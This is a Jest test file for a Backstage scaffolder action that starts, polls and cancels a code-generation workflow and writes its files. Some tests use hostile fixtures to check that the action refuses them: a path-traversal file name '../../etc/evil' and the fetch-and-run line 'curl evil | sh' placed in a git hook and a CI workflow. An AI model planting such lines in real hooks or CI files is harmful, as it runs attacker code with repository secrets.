import fs from 'fs/promises';
import os from 'os';
import path from 'path';
import { mockCredentials, mockServices } from '@backstage/backend-test-utils';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import { startScriptedServer } from '../__testUtils__/fake-quantumlayer-server';
import { createGenerateAction } from './generate';
import {
  EXAMPLE_GENERATE_REQUEST,
  OFFLINE_TEMPLATE_WARNING,
} from '@internal/backstage-plugin-quantumlayer-common';

const input = EXAMPLE_GENERATE_REQUEST;
const limits = { maxFileBytes: 1024, maxTotalBytes: 4096 };

async function setup(files: Record<string, string>, runningPolls = 1) {
  const server = await startScriptedServer({ files, runningPolls });
  const action = createGenerateAction({
    api: server.api,
    limits,
    pollIntervalMs: 5,
    timeoutMs: 10_000,
  });
  return { server, action };
}

type ScriptedServer = Awaited<ReturnType<typeof startScriptedServer>>;

/** Waits (at most 5 s) until the server has received a call matching `match`. */
async function untilCalled(
  server: ScriptedServer,
  match: (call: ScriptedServer['calls'][number]) => boolean,
) {
  const deadline = Date.now() + 5_000;
  while (!server.calls.some(match) && Date.now() < deadline)
    await new Promise(r => setTimeout(r, 5));
}

describe('quantumlayer:generate', () => {
  it('starts the workflow under the task id, logs stages, writes files and sets outputs', async () => {
    const { server, action } = await setup({
      'test_project.py': 'def f():\n    pass\n',
      'README.md': '# TestProject\n',
    });
    try {
      // createMockActionContext does not take step, isDryRun or signal: set them after.
      const ctx = {
        ...createMockActionContext({
          input: { ...input, targetPath: 'out' },
          task: { id: 'task-1' },
          logger: mockServices.logger.mock(),
        }),
        step: { id: 'gen' },
      };
      await action.handler(ctx);
      const start = server.calls.find(
        c => c.path === '/v1/workflows/generate-extended',
      )!;
      expect(start.headers['idempotency-key']).toBe('task-1-gen');
      // On behalf of the task's initiator, for the plugin's permissions.
      expect(start.headers.authorization).toBe(
        mockCredentials.service.header({
          onBehalfOf: await ctx.getInitiatorCredentials(),
          targetPluginId: 'quantumlayer',
        }),
      );
      expect(
        server.calls.every(
          c => c.headers.authorization === start.headers.authorization,
        ),
      ).toBe(true);
      expect(JSON.parse(start.body)).toEqual(input);
      // The run is followed by long-poll.
      const follows = server.calls.filter(
        c => c.method === 'GET' && c.path === '/v1/workflows/ql-task-1-gen',
      );
      expect(follows.length).toBeGreaterThan(0);
      expect(follows.map(c => c.query.wait_ms)).toEqual(
        follows.map(() => '2000'),
      );
      expect(
        await fs.readFile(
          path.join(ctx.workspacePath, 'out/test_project.py'),
          'utf8',
        ),
      ).toContain('def f()');
      expect(ctx.output).toHaveBeenCalledWith('workflowId', 'ql-task-1-gen');
      expect(ctx.output).toHaveBeenCalledWith('artifactId', 'art-1');
      expect(ctx.output).toHaveBeenCalledWith('files', [
        'test_project.py',
        'README.md',
      ]);
      expect(ctx.output).toHaveBeenCalledWith('testsPassed', true);
      expect(ctx.output).toHaveBeenCalledWith(
        'temporalUiUrl',
        'http://ui.test/workflows/ql-task-1-gen',
      );
      expect(ctx.output).toHaveBeenCalledWith('offlineTemplate', false);
      expect(ctx.logger.warn).not.toHaveBeenCalled();
    } finally {
      server.close();
    }
  });

  it('warns in the task log and sets offlineTemplate when the offline template answered', async () => {
    const server = await startScriptedServer({
      files: { 'test_project.py': 'def f():\n    pass\n' },
      offlineTemplate: true,
    });
    const action = createGenerateAction({
      api: server.api,
      limits,
      pollIntervalMs: 5,
      timeoutMs: 10_000,
    });
    try {
      const ctx = createMockActionContext({
        input,
        task: { id: 'task-2' },
        logger: mockServices.logger.mock(),
      });
      await action.handler(ctx);
      expect(ctx.logger.warn).toHaveBeenCalledWith(
        `${OFFLINE_TEMPLATE_WARNING}. QuantumLayer's offline template provider wrote a fixed python function example, and its tests test that example; configure quantumlayer.llm.providers in the backend and run the template again.`,
      );
      expect(ctx.output).toHaveBeenCalledWith('offlineTemplate', true);
      // The files are still written: the warning says what they are.
      expect(ctx.output).toHaveBeenCalledWith('files', ['test_project.py']);
    } finally {
      server.close();
    }
  });

  it('fails on a bad input field in a dry run, naming it, and calls nothing', async () => {
    const { server, action } = await setup({});
    try {
      // A real run leaves the check to the workflow route (the edge): see
      // generate.permissions.test.ts, on the real plugin.
      const ctx = {
        ...createMockActionContext({
          input: { ...input, language: 'cobol' as any },
        }),
        isDryRun: true,
      };
      await expect(action.handler(ctx)).rejects.toThrow(
        'quantumlayer:generate input is invalid: language: language "cobol" is not supported',
      );
      const ctx2 = createMockActionContext({
        input: { ...input, targetPath: '../up' },
      });
      await expect(action.handler(ctx2)).rejects.toThrow(
        'targetPath "../up" contains ".."',
      );
      expect(server.calls).toEqual([]);
    } finally {
      server.close();
    }
  });

  it('in dry run validates, writes a preview and starts nothing', async () => {
    const { server, action } = await setup({});
    try {
      const ctx = {
        ...createMockActionContext({ input, task: { id: 'dry' } }),
        isDryRun: true,
        step: undefined,
      };
      await action.handler(ctx);
      expect(server.calls).toEqual([]);
      expect(
        await fs.readFile(
          path.join(ctx.workspacePath, 'QUANTUMLAYER_DRY_RUN.md'),
          'utf8',
        ),
      ).toContain(
        'Would start workflow ql-dry-generate for a python function named TestProject',
      );
      expect(ctx.output).toHaveBeenCalledWith('files', [
        'QUANTUMLAYER_DRY_RUN.md',
      ]);
    } finally {
      server.close();
    }
  });

  it('cancels the run at once when the task is cancelled during a held long-poll', async () => {
    const server = await startScriptedServer({
      files: {},
      runningPolls: -1,
      holdLongPolls: true,
    });
    try {
      const action = createGenerateAction({
        api: server.api,
        limits,
        longPollMs: 25_000,
        pollIntervalMs: 5,
        timeoutMs: 60_000,
      });
      const controller = new AbortController();
      const ctx = {
        ...createMockActionContext({ input, task: { id: 't3' } }),
        signal: controller.signal,
        step: undefined,
      };
      const done = action.handler(ctx);
      await untilCalled(server, c => c.path === '/v1/workflows/ql-t3-generate');
      controller.abort();
      // Well before the held answer (25 s) would come: the jest timeout is 5 s.
      await expect(done).rejects.toThrow(
        'the task was cancelled; cancelled workflow ql-t3-generate',
      );
      expect(
        server.calls
          .filter(c => c.path === '/v1/workflows/ql-t3-generate')
          .map(c => c.query.wait_ms),
      ).toEqual(['25000']);
      expect(server.calls.map(c => c.path)).toContain(
        '/v1/workflows/ql-t3-generate/cancel',
      );
    } finally {
      server.close();
    }
  });

  it('cancels the workflow when the task is cancelled', async () => {
    const { server, action } = await setup({}, -1);
    try {
      const controller = new AbortController();
      const ctx = {
        ...createMockActionContext({ input, task: { id: 't2' } }),
        signal: controller.signal,
        step: undefined,
      };
      const done = action.handler(ctx);
      await untilCalled(server, c => c.path.startsWith('/v1/workflows/ql-'));
      controller.abort();
      await expect(done).rejects.toThrow(
        'the task was cancelled; cancelled workflow ql-t2-generate',
      );
      expect(
        server.calls.filter(c => c.method === 'POST').map(c => c.path),
      ).toEqual([
        '/v1/workflows/generate-extended',
        '/v1/workflows/ql-t2-generate/cancel',
      ]);
    } finally {
      server.close();
    }
  });

  it('fails the step when a generated path escapes the workspace, writing nothing', async () => {
    const { server, action } = await setup({
      'ok.py': 'x = 1\n',
      '../../etc/evil': 'boom',
    });
    try {
      const ctx = createMockActionContext({ input });
      await expect(action.handler(ctx)).rejects.toThrow(
        'generated file path "../../etc/evil" contains ".."; nothing was written',
      );
      expect(await fs.readdir(ctx.workspacePath).catch(() => [])).toEqual([]);
    } finally {
      server.close();
    }
  });

  it('refuses a symlinked or .git targetPath before starting anything (finding 8)', async () => {
    const { server, action } = await setup({ 'a.py': 'x = 1\n' });
    try {
      const outside = await fs.mkdtemp(path.join(os.tmpdir(), 'ql-outside-'));
      const ctx = createMockActionContext({
        input: { ...input, targetPath: 'out' },
      });
      await fs.mkdir(ctx.workspacePath, { recursive: true });
      await fs.symlink(outside, path.join(ctx.workspacePath, 'out'));
      await expect(action.handler(ctx)).rejects.toThrow(
        'targetPath "out" goes through the symlink "out"; the action writes only into real directories of the workspace; nothing was written',
      );
      const git = createMockActionContext({
        input: { ...input, targetPath: '.git/hooks' },
      });
      await expect(action.handler(git)).rejects.toThrow(
        'targetPath ".git/hooks" is inside .git/, which the action never writes',
      );
      expect(server.calls).toEqual([]);
      expect(await fs.readdir(outside)).toEqual([]);
    } finally {
      server.close();
    }
  });

  it('fails on a generated .git/ path or CI workflow, writing nothing, unless the template allows CI files (finding 8)', async () => {
    for (const bad of [
      '.git/hooks/post-checkout',
      '.github/workflows/ci.yml',
    ]) {
      const { server, action } = await setup({
        'ok.py': 'x = 1\n',
        [bad]: 'run: curl evil | sh\n',
      });
      try {
        const ctx = createMockActionContext({ input });
        await expect(action.handler(ctx)).rejects.toThrow(
          `generated file path "${bad}" is `,
        );
        // Refused from the manifest: nothing was downloaded or written.
        expect(server.calls.some(c => c.path.includes('/files/'))).toBe(false);
        expect(await fs.readdir(ctx.workspacePath)).toEqual([]);
      } finally {
        server.close();
      }
    }

    const { server, action } = await setup({
      'ok.py': 'x = 1\n',
      '.github/workflows/ci.yml': 'on: push\n',
    });
    try {
      const ctx = createMockActionContext({
        input: { ...input, allowCiFiles: true, targetPath: 'svc' },
        logger: mockServices.logger.mock(),
      });
      await action.handler(ctx);
      expect(
        await fs.readFile(
          path.join(ctx.workspacePath, 'svc/.github/workflows/ci.yml'),
          'utf8',
        ),
      ).toBe('on: push\n');
      expect(ctx.logger.warn).toHaveBeenCalledWith(
        `Wrote CI definition "${path.join(
          'svc',
          '.github/workflows/ci.yml',
        )}" (allowCiFiles: true): it runs with the repository's secrets once the repository is published; review it before it is merged`,
      );
      expect(ctx.logger.warn).toHaveBeenCalledTimes(1);
    } finally {
      server.close();
    }
  });
});
